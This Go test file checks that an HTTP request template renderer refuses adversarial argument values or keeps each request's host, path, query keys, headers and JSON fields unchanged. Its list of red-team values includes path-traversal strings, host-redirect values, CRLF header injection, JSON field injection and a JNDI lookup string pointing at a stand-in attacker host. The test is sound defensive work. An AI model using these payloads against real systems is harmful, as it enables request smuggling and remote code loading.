package template

import (
	"encoding/json"
	"net/url"
	"slices"
	"strings"
	"testing"
)

// httpRedTeamValues are values meant to move an HTTP call to another
// host, path, query key, header or JSON field (red-team set, branch
// redteam).
var httpRedTeamValues = []any{
	"../admin", "..", ".", "..%2fadmin", "%2e%2e", ".%2e", "%2e.", "..;", "..;/admin", "．．", "。。",
	"..\u2215admin", "\u2024\u2024", "..\\admin", "%00", "@evil.example", "//evil.example", "http://evil.example/",
	"https:evil.example", "#frag", "?x=1&admin=true", "a&b=c", "a=b", "q=1#x", "\r\nX-Injected: 1", "a\nb",
	"a\rb", "a\u2028b", "a\u0085b", "a\x7fb", `"},"admin":true,"x":{"`, `\"`, `\u0022`, "</script>",
	"${jndi:ldap://evil.example/x}", "{{.q}}", "{{secret.key}}", "\xff\xfe", "🙂", "a%20b", "+", " ",
	strings.Repeat("A", 70000), 1e308, -1.0, true, nil, []any{"a", "b"}, map[string]any{"admin": true},
}

// TestRenderHTTPRedTeam renders a template with a placeholder in each
// place (path segment, query value, param, header, JSON string and JSON
// value) and checks that whatever a value holds, a rendering that is not
// refused keeps the author's host, path shape, query keys, header and JSON
// fields.
func TestRenderHTTPRedTeam(t *testing.T) {
	spec := HTTPSpec{
		Method:  "POST",
		URL:     "https://api.example.com/v1/{{p}}/items?q={{q}}",
		Params:  nil,
		Headers: map[string]string{"X-Trace": "t-{{h}}"},
		Body:    `{"name": "{{n}}", "count": {{c}}}`,
	}
	get := HTTPSpec{Method: "GET", URL: "https://api.example.com/v1/search", Params: map[string]string{"limit": "{{l}}", "q": "{{q}}"}}
	rendered, refused := 0, 0
	for _, v := range httpRedTeamValues {
		args := map[string]any{"p": v, "q": v, "h": v, "n": v, "c": v, "l": v}
		for _, s := range []HTTPSpec{spec, get} {
			r, err := RenderHTTP(s, args, nil)
			if err != nil {
				refused++
				continue
			}
			rendered++
			checkHTTPRendering(t, s, v, r)
		}
	}
	t.Logf("HTTP red-team values: %d renderings kept their shape, %d refused", rendered, refused)
}

func checkHTTPRendering(t *testing.T, spec HTTPSpec, v any, r *HTTPRendering) {
	t.Helper()
	u, err := url.Parse(r.URL)
	if err != nil {
		t.Errorf("value %q: rendered URL %q does not parse: %v", short(v), r.URL, err)
		return
	}
	if u.Scheme != "https" || u.Host != "api.example.com" || u.User != nil || u.Fragment != "" || u.Opaque != "" {
		t.Errorf("value %q moved the call: %q", short(v), r.URL)
	}
	segs := strings.Split(u.EscapedPath(), "/")
	for _, s := range segs {
		if dec, err := url.PathUnescape(s); err != nil || dec == "." || dec == ".." {
			t.Errorf("value %q made a dot segment or a bad escape %q in %q", short(v), s, r.URL)
		}
	}
	wantKeys := []string{"q"}
	if spec.Method == "GET" {
		if len(segs) != 3 {
			t.Errorf("value %q changed the path: %q", short(v), r.URL)
		}
		wantKeys = []string{"limit", "q"}
	} else if len(segs) != 4 || segs[1] != "v1" || segs[3] != "items" {
		t.Errorf("value %q changed the path: %q", short(v), r.URL)
	}
	q, err := url.ParseQuery(u.RawQuery)
	if err != nil {
		t.Errorf("value %q: query %q does not parse: %v", short(v), u.RawQuery, err)
	}
	for k, vs := range q {
		// A key may be missing (an optional argument left out), never added
		// or repeated.
		if !slices.Contains(wantKeys, k) || len(vs) != 1 {
			t.Errorf("value %q added or repeated query key %q: %q", short(v), k, r.URL)
		}
	}
	for name, hv := range r.Headers {
		if strings.ContainsAny(hv, "\r\n\x00") || strings.ContainsAny(name, "\r\n\x00: ") {
			t.Errorf("value %q put a control character in header %q: %q", short(v), name, hv)
		}
	}
	if spec.Body != "" {
		var body map[string]any
		if err := json.Unmarshal(r.Body, &body); err != nil {
			t.Errorf("value %q: body %q is not JSON: %v", short(v), r.Body, err)
			return
		}
		if len(body) != 2 || body["name"] == nil && v != nil {
			t.Errorf("value %q changed the body's fields: %s", short(v), r.Body)
		}
		if s, ok := v.(string); ok && body["name"] != s {
			t.Errorf("value %q: body name %q, want the value as text", short(v), body["name"])
		}
	}
}

func short(v any) string {
	s, _ := json.Marshal(v)
	if len(s) > 60 {
		return string(s[:60]) + "…"
	}
	return string(s)
}
